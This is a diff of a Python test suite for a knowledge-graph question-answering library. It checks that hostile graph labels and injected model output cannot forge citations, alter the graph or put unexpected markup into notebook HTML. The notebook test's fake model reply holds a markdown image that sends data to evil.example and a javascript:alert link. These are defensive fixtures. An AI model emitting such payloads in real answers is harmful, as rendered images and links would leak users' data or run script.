@@ -1,14 +1,17 @@
-"""Nobody forges a citation: not a label, not the model, not a question, not an altered file."""
+"""Nobody forges a citation: no label, model, question, file or computed name; and notebooks show text."""
 
 from __future__ import annotations
 
 import json
 import random
 import re
+from dataclasses import replace
+from pathlib import Path
 
+import pyoxigraph as ox
 import pytest
 from langchain_core.language_models import FakeListChatModel
-from rdflib import Literal, URIRef
+from rdflib import OWL, RDF, RDFS, Literal, URIRef
 
 import mrag
 from mrag.completion.chain import answer as completed_answer
@@ -16,19 +19,20 @@ from mrag.completion.patterns import CompletedTriple, Completion, IncompleteTrip
 from mrag.context.render import Context, Line
 from mrag.errors import ModelError
 from mrag.generation.answering import answer, stream_answer
-from mrag.generation.result import Answer, EvidenceRef
+from mrag.generation.result import Answer, EvidenceRef, ShownImage
 from mrag.generation.verbalise import verbalise
 from mrag.generation.verification import verify
 from mrag.graph.kg import KnowledgeGraph
 from mrag.planning.plan import Unknown
-from mrag.rdf.terms import OWL, RDF, RDFS, Term, Triple
+from mrag.rdf.terms import Term, Triple
+from mrag.retrieval.answering import ask
 from mrag.retrieval.answering import verify as verified
 from mrag.stores.oxigraph import OxigraphStore
 from tests.generation.conftest import ask_in, context_of
-from tests.injection.hostile import KINDS, attack, folded, ids_in, text
+from tests.injection.hostile import KINDS, attack, folded, ids_in, signs_in, strange_markup, text
 from tests.injection.test_prompts import record
 
-PREDICATES = [RDF + "type", RDFS + "subClassOf", OWL + "sameAs", RDFS + "comment", "http://example.org/p"]
+PREDICATES = [RDF.type, RDFS.subClassOf, OWL.sameAs, RDFS.comment, URIRef("http://example.org/p")]
 
 
 def wrong_with(given: Answer, context: Context) -> str | None:
@@ -62,7 +66,7 @@ def of_a_label(rng: random.Random, kind: str | None = None) -> str | None:
     context = record(rng, kind)
     lines = []
     for line in context.lines:
-        triple = Triple(line.triple.s, URIRef(rng.choice(PREDICATES)), line.triple.o)
+        triple = Triple(line.triple.s, rng.choice(PREDICATES), line.triple.o)
         lines.append(Line(line.id, line.text, triple, line.graph, line.inferred, line.labels, line.entity))
     context = Context(tuple(lines), context.entities)
     question = rng.choice([text(rng, kind), context.lines[0].labels[0], "What is it?"])
@@ -146,7 +150,7 @@ def of_evidence(rng: random.Random) -> str | None:
     )
     incomplete = IncompleteTriple(s, p, x)
     with KnowledgeGraph(OxigraphStore()) as kg:
-        kg.insert([Triple(s, URIRef(RDFS + "label"), Literal(text(rng)))])
+        kg.insert([Triple(s, RDFS.label, Literal(text(rng)))])
         given_terms: list[Term] = list(terms) if rng.random() < 0.7 else []
         found = Completion(
             text(rng),
@@ -240,3 +244,88 @@ def test_the_layer_of_a_cited_triple_is_checked() -> None:
                     line["inferred"] = not line["inferred"]
             found = verified(kg, value)
             assert not found.ok and any("but the graph has it as" in what for what in found.altered)
+
+
+E = "http://example.org/"
+QUESTIONS = (
+    "How many gadgets are there?",
+    "List the gadgets",
+    "Which gadgets are made by Acme?",
+    "How many gadgets are there per maker?",
+    "Is Widget a gadget?",
+    "Which gadget has the highest weight?",
+)
+PLAIN_MARKUP = {*"div p br small pre details summary table caption thead tbody tr th td span ul li".split()}
+
+
+def gadgets(rng: random.Random) -> KnowledgeGraph:
+    """Make a graph of things that can be asked for, most of whose names are hostile."""
+    kg = KnowledgeGraph(OxigraphStore())
+    named = {"Gadget": "gadget", "Maker": "maker", "made": "made by", "weight": "weight", "acme": "Acme"}
+    triples = [Triple(URIRef(E + name), RDFS.label, Literal(label)) for name, label in named.items()]
+    triples.append(Triple(URIRef(E + "acme"), RDF.type, URIRef(E + "Maker")))
+    for number in range(rng.randint(2, 6)):
+        gadget, maker = URIRef(f"{E}g{number}"), URIRef(f"{E}m{number % 2}")
+        triples += [
+            Triple(gadget, RDF.type, URIRef(E + "Gadget")),
+            Triple(gadget, RDFS.label, Literal(text(rng) if number else "Widget")),
+            Triple(gadget, URIRef(E + "made"), maker if number else URIRef(E + "acme")),
+            Triple(gadget, URIRef(E + "weight"), Literal(rng.randint(1, 5))),
+            Triple(maker, RDF.type, URIRef(E + "Maker")),
+            Triple(maker, RDFS.label, Literal(text(rng))),
+        ]
+    kg.insert(triples)
+    return kg
+
+
+def of_names(rng: random.Random) -> str | None:
+    computed = 0
+    with gadgets(rng) as kg:
+        before = kg.count("all")
+        for question in QUESTIONS:
+            given = ask(kg, question, model="none", how="plan")
+            if given.computed is None:
+                continue
+            computed += 1
+            found = given.computed
+            if wrong := wrong_with(given, given.context):
+                return f"{question}: {wrong}"
+            if not (report := verified(kg, given.to_json())).ok:
+                return f"{question}: {report}"
+            told = [found.reading, *(x for r in found.readings for x in (r.reading, r.answer))]
+            for said in [*told, *(s.text for s in given.sentences)]:
+                if signs_in(said) or ids_in(said) or len(said.splitlines()) > 1:
+                    return f"{question}: a sign, an id or a line break in {said!r}"
+            # The query is one read, however things are called.
+            if not isinstance(ox.Store().query(found.query), ox.QuerySolutions | ox.QueryBoolean):
+                return f"{question}: another query: {found.query!r}"
+            if strange := strange_markup(given._repr_html_(), PLAIN_MARKUP):
+                return f"{question}: a browser sees {strange}"
+        if kg.count("all") != before:
+            return "asking wrote"
+    return None if computed >= 3 else f"only {computed} questions were computed"
+
+
+def test_names_forge_nothing_in_what_is_computed() -> None:
+    attack("computed answers", 6, of_names)
+
+
+ALLOWED = {"div", "p", "br", "figure", "img", "figcaption", "b", "code", "small", "ul", "li"}
+
+
+def of_a_notebook(rng: random.Random) -> str | None:
+    context = record(rng)
+    said = f"{text(rng)} ![x](http://evil.example/?q={text(rng)}) [y](javascript:alert(1)) {text(rng)}"
+    model = FakeListChatModel(responses=[said]) if rng.random() < 0.5 else None
+    try:
+        given = answer(text(rng), context, model)
+    except ModelError:
+        return None
+    shown = ShownImage("urn:i" + text(rng), text(rng), None, 1.0, 1, (text(rng),), context.lines)
+    missing = ShownImage("http://evil.example/x.png", text(rng), Path("/no/such"), 1.0, 2, (), ())
+    strange = strange_markup(replace(given, way="images", images=(shown, missing))._repr_html_(), ALLOWED)
+    return f"a browser sees {strange}" if strange else None
+
+
+def test_notebooks_show_text() -> None:
+    attack("notebooks", 150, of_a_notebook)
